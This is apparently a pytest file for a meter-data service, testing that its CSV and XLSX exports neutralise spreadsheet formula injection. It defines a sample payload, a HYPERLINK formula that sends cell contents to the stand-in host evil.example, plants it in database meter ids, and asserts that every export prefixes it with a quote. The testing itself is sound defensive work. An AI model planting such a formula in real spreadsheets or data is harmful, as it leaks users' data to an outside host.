"""No CSV or XLSX cell the service writes starts a spreadsheet formula, except the Fluvius EAN
cell ``="541..."`` (the format's own). Texts stored before the registry checked them (or by
a migration) are the risk: the tests plant such a meter id in the database."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import text

from datahub_api.access_points.service import get_access_point
from datahub_api.brussels_days import day_start
from datahub_api.history_exports import writer
from datahub_api.history_exports.models import ExportFormat
from datahub_api.meter_data.blocks import BlockKey, DayBlock
from datahub_api.meter_data.fluvius_csv import (
    TariffCalendar,
    csv_cell,
    exported_access_point,
)
from datahub_api.meter_data.granularity import Granularity
from datahub_api.meter_data.models import Direction, Register, StoredUnit
from datahub_api.meter_data.series import ReadWindow
from datahub_api.nps.service import daily_files as nps_daily_files
from datahub_api.spreadsheet_cells import FORMULA_STARTS, formula_safe

from .support.consent_world import browser_login
from .support.esp_portal_world import PLAIN, EspWorld, make_esp_world
from .support.meter_data import METER
from .support.parties import auth_headers

EVIL = '=HYPERLINK("http://evil.example/?"&A1;"x")'


def formula_cells(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell[:1] in FORMULA_STARTS and not _number(cell)]


def _number(cell: str) -> bool:
    return formula_safe(cell) == cell


def csv_cells(content: bytes) -> list[list[str]]:
    """Cells as a spreadsheet reads them (``;``, double-quote quoting)."""
    import csv

    body = content.decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))


def xlsx_strings(content: bytes) -> list[str]:
    """Every text in an XLSX file (shared strings and inline strings), and whether any cell
    is a formula (``<f>``)."""
    import re

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") or name == "xl/sharedStrings.xml"
        )
    assert "<f>" not in sheets, "no formula cells"
    return [
        re.sub(r"&quot;", '"', re.sub(r"&amp;", "&", found))
        for found in re.findall(r"<t(?: [^>]*)?>([^<]*)</t>", sheets)
    ]


@pytest.mark.parametrize(
    ("given", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1SAG", "'+1SAG"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-1,250", "-1,250"),
        ("-0.5", "-0.5"),
        ("1SAG2120063032", "1SAG2120063032"),
        ("", ""),
    ],
)
def test_formula_safe(given: str, written: str) -> None:
    assert formula_safe(given) == written


def test_fluvius_csv_cells_never_start_a_formula() -> None:
    assert csv_cell("=cmd") == "'=cmd"
    assert csv_cell(EVIL) == '"\'=HYPERLINK(""http://evil.example/?""&A1;""x"")"'
    assert csv_cell("Afname Dag") == "Afname Dag"  # the layout's own texts are unchanged
    assert csv_cell("-1,250") == "-1,250"


@pytest.fixture
async def planted(app: FastAPI, client: httpx.AsyncClient) -> EspWorld:
    """The portal world, with its meter renamed in the database to a formula (as stored
    before the registry checked meter ids)."""
    world = await make_esp_world(app, client)
    async with app.state.database.write_sessions() as session:
        for table in ("physical_meters", "meter_day_blocks"):
            await session.execute(
                text(f"UPDATE {table} SET meter_id = :evil WHERE meter_id = :meter"),
                {"evil": EVIL, "meter": METER},
            )
        await session.commit()
    return world


async def test_every_export_face_neutralises_a_planted_formula(
    app: FastAPI, client: httpx.AsyncClient, planted: EspWorld, tmp_path: Path
) -> None:
    ean, day = planted.ean, PLAIN
    headers = await auth_headers(client, planted.world.esp_a)
    window = {"from": str(day), "to": str(day + timedelta(days=1))}
    api_csv = await client.get(
        f"/api/v1/access-points/{ean}/meter-data",
        params={**window, "format": "csv"},
        headers=headers,
    )
    assert api_csv.status_code == 200, api_csv.text
    api_xlsx = await client.get(
        f"/api/v1/access-points/{ean}/meter-data",
        params={**window, "format": "xlsx"},
        headers=headers,
    )
    assert api_xlsx.status_code == 200, api_xlsx.text

    staff = httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://testserver")
    try:
        assert (await browser_login(staff, planted.staff_a.username, "/portal/")).status_code == 303
        portal_csv = await staff.get(f"/portal/esp/access-points/{ean}/csv?span=day&date={day}")
        assert portal_csv.status_code == 200, portal_csv.text
    finally:
        await staff.aclose()

    read_window = ReadWindow(day_start(day), day_start(day + timedelta(days=1)), Granularity.P1D)
    history: dict[ExportFormat, bytes] = {}
    async with app.state.database.read_sessions() as session:
        point = exported_access_point(await get_access_point(session, ean))
        for export_format in ExportFormat:
            path = tmp_path / f"history.{export_format.value}"
            await writer.write_ean_file(
                session, path, export_format, point, read_window, TariffCalendar(), gvm=True
            )
            history[export_format] = path.read_bytes()

    for content in (api_csv.content, portal_csv.content, history[ExportFormat.csv]):
        rows = csv_cells(content)
        meters = {row[5] for row in rows[1:]}
        assert meters == {"'" + EVIL}, meters
        for row in rows:
            assert formula_cells([c for i, c in enumerate(row) if i != 4]) == []
            if row is not rows[0]:
                assert row[4] == f'="{ean}"', "the Fluvius EAN cell stays the format's own"
    for content in (api_xlsx.content, history[ExportFormat.xlsx]):
        strings = xlsx_strings(content)
        assert "'" + EVIL in strings
        assert formula_cells(strings) == []


def test_nps_daily_file_rows_neutralise_a_formula_meter_id() -> None:
    day = date(2026, 3, 10)
    block = DayBlock(
        key=BlockKey("541448820050357909", EVIL, Direction.offtake, Register.total,
                     Granularity.PT15M, day),
        id=1,
        unit=int(StoredUnit.Wh),
        expected_slots=96,
        filled_slots=1,
        version=1,
        first_inserted_at=datetime(2026, 3, 11, tzinfo=UTC),
        last_inserted_at=datetime(2026, 3, 11, tzinfo=UTC),
        completed_at=None,
        values=[250] + [None] * 95,
        states=[1] + [None] * 95,
    )  # fmt: skip
    allowed = nps_daily_files._EanWindows(7, [(day_start(day), day_start(day + timedelta(days=1)))])
    rows = nps_daily_files._rows(block, allowed, day, None)
    assert len(rows) == 1
    assert rows[0][1] == "'" + EVIL
    assert formula_cells(rows[0]) == []
